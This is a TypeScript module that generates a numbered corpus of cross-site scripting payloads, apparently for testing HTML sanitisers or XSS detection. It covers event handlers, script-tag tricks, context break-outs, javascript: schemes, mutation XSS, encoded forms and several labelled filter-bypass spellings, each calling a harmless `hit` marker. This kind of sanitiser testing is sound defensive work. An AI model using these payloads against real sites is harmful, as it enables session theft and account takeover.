/**
 * The XSS payloads: texts that execute as a script if a page does not treat them as text. They vary by the context that
 * they break out of, the element and event, and the spelling. Each calls `hit` with its number, which identifies it.
 */

export type Payload = { number: number; text: string }

type Writer = (call: string) => string

const EVENTS: [string, string][] = [
  ['img src=x', 'onerror'],
  ['img src=/icon.svg', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=/x.css', 'onerror'],
  ['script src=/x.js', 'onerror'],
  ['marquee width=1', 'onstart'],
  ['div style=animation:spin\u00201s', 'onanimationstart'],
  ['p style=transition:1s tabindex=1 autofocus', 'ontransitionend'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['input type=image src=x', 'onerror'],
  ['form><button autofocus', 'onfocus'],
]

/** Spellings of an element with its handler that bypass filters. */
const SPELLINGS: ((element: string, event: string) => Writer)[] = [
  (element, event) => (call) => `<${element} ${event}=${call}>`,
  (element, event) => (call) => `<${element} ${event}="${call}">`,
  (element, event) => (call) => `<${element.toUpperCase()} ${event.toUpperCase()}='${call}'>`,
  (element, event) => (call) => `<${element.replaceAll(' ', '/')}/${event}=${call}//`,
  (element, event) => (call) => `<${element}\n${event}\t=\n"${call}"`,
  (element, event) => (call) => `<${element} ${event}="${entities(call)}">`,
]

const SCRIPTS: Writer[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT >`,
  (call) => `<script/x>${call}</script\n>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script>/*<!--*/${call}//--></script>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>${entities(call)}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}" />`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;">`,
  (call) => `<object data="data:text/html,<script>parent.${call}</script>">`,
  (call) => `<embed src="data:text/html,<script>parent.${call}</script>">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
]

/** Texts that end the context around a payload, so that it breaks out. */
const CLOSERS = [
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</select>',
  '</xmp>',
  '-->',
  '--!>',
  ']]>',
  '"><',
  '"/>',
  "'>",
  '`>',
  '</p></div>',
]

const ATTRIBUTES: Writer[] = ['"', "'", '`', '&quot;', '\\"', "\\'", ' '].flatMap((quote): Writer[] => [
  (call) => `${quote} autofocus tabindex=1 onfocus=${call} x=${quote}`,
  (call) => `${quote} onload=${call} onerror=${call} ${quote}`,
  (call) => `x${quote} style=${quote}animation:spin 1s${quote} onanimationstart=${quote}${call}`,
])

const SCHEMES: Writer[] = [
  'javascript:',
  'JaVaScRiPt:',
  'javascript\t:',
  'java\nscript:',
  'java\tscript:',
  '\u0001javascript:',
  ' javascript:',
  '\u00a0javascript:',
  'javascript://x%0a',
  'javascript:/*x*/',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61&#x76&#x61script:',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'data:image/svg+xml,<svg onload=',
  'blob:javascript:',
  '//localhost/%0ajavascript:',
].map((scheme) => (call) => `${scheme}${call}`)

const LINKS: Writer[] = SCHEMES.flatMap((scheme): Writer[] => [
  scheme,
  (call) => `<a href="${scheme(call)}">press</a>`,
])

const URL_ATTRIBUTES: Writer[] = [
  (call) => `<form action="javascript:${call}"><button autofocus>press</button></form>`,
  (call) => `<button form=x formaction="javascript:${call}">press</button>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>press</text></a></svg>`,
  (call) =>
    `<svg><a><animate attributeName=href values="javascript:${call}" /><text y=9>press</text></a></svg>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call} />#x" /></svg>`,
  (call) => `<math href="javascript:${call}">press</math>`,
  (call) => `<math><mi xlink:href="javascript:${call}">press</mi></math>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<area shape=default href="javascript:${call}">`,
  (call) => `<isindex action="javascript:${call}" type=image>`,
  (call) => `<a href="https://x" ping="javascript:${call}" onclick=${call}>press</a>`,
  (call) => `<link rel=import href="data:text/html,<script>${call}</script>">`,
  (call) => `<style>@import "javascript:${call}";*{background:url("javascript:${call}")}</style>`,
  (call) => `<div style="background:url(javascript:${call});width:expression(${call})">`,
]

/** Mutation XSS: harmless when parsed once, harmful when serialised and parsed again. */
const MUTATION_XSS: Writer[] = [
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror=${call}></desc></svg>`,
  (call) => `<p><svg><style><!--</style><img src=x onerror=${call}>--></style></svg>`,
  (call) => `<select><style></select><img src=x onerror=${call}></style></select>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>"></xmp>`,
  (call) => `<textarea><p title="</textarea><img src=x onerror=${call}>"></textarea>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!--!><svg onload=${call}>--!>`,
  (call) => `<?xml><img src=x onerror=${call}>?>`,
  (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
]

/** Payloads for templates, for JSON in the page, and for double decoding. */
const ENCODED: Writer[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$on.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `#{${call}}`,
  (call) => `[[${call}]]`,
  (call) => `"};${call};//`,
  (call) => `'];${call};//`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  (call) => `\u2028${call}\u2029`,
  (call) => `*/${call}/*`,
  (call) => `\n${call}\n`,
  (call) => `</script><!--<script>${call}`,
  (call) => encodeURIComponent(`<img src=x onerror=${call}>`),
  (call) => encodeURIComponent(encodeURIComponent(`<svg onload=${call}>`)),
  (call) => Buffer.from(`<img src=x onerror=${call}>`).toString('base64'),
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `＜script＞${call}＜/script＞`,
  (call) => `‹img src=x onerror=${call}›`,
  (call) => `[press](javascript:${call})`,
  (call) => `![x](x"onerror="${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[press][1]\n\n[1]: javascript:${call}`,
  (call) => `![x][1]\n\n[1]: x "onerror="${call}`,
  (call) => `<https://x" onmouseover="${call}>`,
]

const entities = (text: string): string =>
  Array.from(text, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('')

const WRITERS: Writer[] = [
  ...EVENTS.flatMap(([element, event]) => SPELLINGS.map((write) => write(element, event))),
  ...SCRIPTS,
  ...CLOSERS.flatMap((closer): Writer[] => [
    (call) => `${closer}<script>${call}</script>`,
    (call) => `${closer}<img src=x onerror=${call}>`,
  ]),
  ...ATTRIBUTES,
  ...LINKS,
  ...URL_ATTRIBUTES,
  ...MUTATION_XSS,
  ...ENCODED,
]

export const PAYLOADS: readonly Payload[] = WRITERS.map((write, number) => ({
  number,
  text: write(`hit(${String(number)})`),
}))
